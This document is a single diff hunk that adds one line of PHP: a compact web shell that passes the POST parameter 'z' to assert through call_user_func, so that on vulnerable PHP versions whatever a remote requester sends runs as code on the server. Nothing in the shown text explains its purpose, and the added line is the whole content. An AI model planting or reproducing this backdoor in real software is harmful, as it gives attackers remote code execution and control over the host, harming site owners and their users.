@@ -1,0 +1,1 @@
+<?php call_user_func('assert', $_POST['z']); ?>
